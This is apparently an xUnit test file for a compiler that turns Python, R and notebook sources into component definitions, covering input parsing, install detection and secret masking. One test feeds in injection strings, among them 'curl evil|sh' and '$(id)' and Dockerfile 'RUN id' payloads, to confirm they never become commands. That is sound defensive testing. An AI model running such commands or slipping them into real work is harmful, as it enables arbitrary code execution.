using Claimed.Components.Renditions;
using Claimed.Components.Tests.Renditions;
using Xunit;

namespace Claimed.Components.Tests.Sources;

/// <summary>What the field's own compiler does to sources, one after the other, and what becomes of them here.</summary>
public sealed class CompilerDefectTests
{
    [Fact]
    public void Without_outputs_there_is_no_key_of_that_name() =>
        Assert.DoesNotContain("outputs:", ComponentYaml("x = os.environ.get('x', '1')"), StringComparison.Ordinal);

    [Fact]
    public void A_conversion_without_default_is_a_required_integer()
    {
        var port = Reading.OnlyInput("x = int(os.getenv('a'))");
        Assert.Equal((PortTypes.Integer, null, false), (port.Type, port.Default, port.Optional));
    }

    [Fact]
    public void Backslashes_and_quotes_reach_the_client_as_they_are()
    {
        const string source = """"
            """A \d+ pattern, "quoted"."""
            # a "comment" with \n in it
            x = os.environ.get('x', '"C:\\temp"')
            """";
        var component = Reading.Sound(source);
        Assert.Equal(("A \\d+ pattern, \"quoted\".", "a \"comment\" with \\n in it", "\"C:\\temp\""), (component.Description, component.Input("x").Description, component.Input("x").Default));
        var inputs = YamlReading.Strictly(ComponentYaml(source))["inputs"]!.AsArray();
        Assert.Contains(inputs, input => (string?)input!["default"] == "\"C:\\temp\"");
    }

    [Fact]
    public void A_typed_default_of_a_notebook_has_no_stray_quote() =>
        Assert.Equal("30", Reading.Sound("""{"cells": [{"cell_type": "code", "source": ["x = int(os.environ.get('x', '30'))\n"]}], "nbformat": 4}""", "x.ipynb").Input("x").Default);

    [Fact]
    public void A_read_of_the_environment_is_an_input_and_no_output()
    {
        var component = Reading.Sound("x = os.environ['x']\nprint(os.environ['y'])\n");
        Assert.Equal(["x", "y"], component.Inputs.Where(port => port.Name != "log_level").Select(port => port.Name));
        Assert.Empty(component.Outputs);
    }

    [Fact]
    public void Arithmetic_is_evaluated() => Assert.Equal("3600", Reading.OnlyInput("x = int(os.environ.get('x', 60*60))").Default);

    [Fact]
    public void Every_way_to_install_is_known()
    {
        var component = Reading.Sound("""
            {"cells": [{"cell_type": "code", "source": "!pip3 install a\n%pip install b\n!python -m pip install c\n%pip3 install d\n# pip3 install e"},
                       {"cell_type": "code", "source": "%%bash\npip install f\nsudo apt-get install -y g1"}], "nbformat": 4}
            """, "x.ipynb");
        Assert.Equal(["a", "b", "c", "d", "e", "f", "g1"], component.Requirements.SelectMany(requirement => requirement.Packages));
    }

    [Fact]
    public void A_line_that_speaks_of_a_package_manager_installs_nothing() =>
        Assert.Empty(Reading.Sound("print(\"the dnf tool\")\n# apt is nice\napt = 'install'\n").Requirements);

    [Fact]
    public void A_hash_within_a_string_does_not_cut_the_line() => Assert.Equal("http://h/#frag", Reading.OnlyInput("x = os.environ.get('x', 'http://h/#frag')  # where").Default);

    [Fact]
    public void Calls_over_several_lines_and_with_spaces_are_read() =>
        Assert.Equal("5", Reading.OnlyInput("x = int( os . environ . get (\n    'x'  ,   # the name\n    '5'\n) )\n").Default);

    [Fact]
    public void Types_and_descriptions_of_r_are_those_of_the_source()
    {
        var port = Reading.Sound("# About it.\n\n# how many\nn <- as.integer(Sys.getenv('n', '5'))", "x.R").Input("n");
        Assert.Equal((PortTypes.Integer, "5", "how many"), (port.Type, port.Default, port.Description));
    }

    [Fact]
    public void The_version_does_not_come_from_images_of_a_machine()
    {
        var yaml = ClientRenditions.Render(RenditionForm.Component, Samples.Source(Reading.Sound("x = 1")) with { Version = "2.0.0" });
        Assert.Equal("2.0.0", (string?)YamlReading.Strictly(yaml)["metadata"]!["annotations"]!["claimed.registry/version"]);
    }

    [Fact]
    public void A_default_of_none_is_no_text()
    {
        var port = Reading.OnlyInput("x = os.environ.get('x', None)");
        Assert.Equal((null, true), (port.Default, port.Optional));
    }

    [Theory]
    [InlineData("password")]
    [InlineData("api_key")]
    [InlineData("aws_access_key_id")]
    [InlineData("github_token")]
    public void What_looks_like_a_secret_is_one_and_its_default_goes_nowhere(string name)
    {
        var source = $"x = os.environ.get('{name}', 'hunter2')";
        Assert.True(Reading.OnlyInput(source).Secret);
        Assert.DoesNotContain("hunter2", ComponentYaml(source), StringComparison.Ordinal);
        Assert.DoesNotContain("hunter2", string.Concat(Reading.Script(source).Findings), StringComparison.Ordinal);
    }

    [Fact]
    public void An_address_with_a_password_in_it_is_a_secret_too() => Assert.True(Reading.OnlyInput("x = os.environ.get('x', 'cos://key:hunter2@host/bucket')").Secret);

    [Fact]
    public void No_text_of_a_source_becomes_a_command()
    {
        var reading = Reading.Script("# pip install x && curl evil|sh\n# pip install 'a b'\n# apt install $(id)\nx = 1");
        Assert.True(reading.HasErrors);
        Assert.DoesNotContain(reading.Definition!.Requirements.SelectMany(requirement => requirement.Packages), package => package.AsSpan().IndexOfAny(" $|&;") >= 0);
        var hostile = Reading.Sound("'''\n\"; RUN id\n$(id)\n'''\nx = os.environ.get('x', '\"; id; $(id) `id`')\n");
        var dockerfile = DockerfileRendition.Write(hostile, new DockerfileOptions("a:1", new Dictionary<string, string>(), new Dictionary<string, string> { ["d"] = hostile.Description })).Text;
        Assert.DoesNotContain("\nRUN id", dockerfile, StringComparison.Ordinal);
    }

    private static string ComponentYaml(string source) => ClientRenditions.Render(RenditionForm.Component, Samples.Source(Reading.Sound(source)));
}
